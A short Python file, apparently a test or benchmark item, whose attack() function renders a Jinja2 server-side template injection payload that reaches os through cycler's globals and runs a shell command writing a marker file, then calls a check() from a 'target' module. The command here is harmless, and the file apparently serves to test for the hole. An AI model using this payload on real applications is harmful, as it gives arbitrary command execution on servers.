from jinja2 import Template
from target import check


def attack():
    Template("{{ (cycler.__init__|attr('__globals__')).os.system('echo ran > ran') }}").render()
    return check()
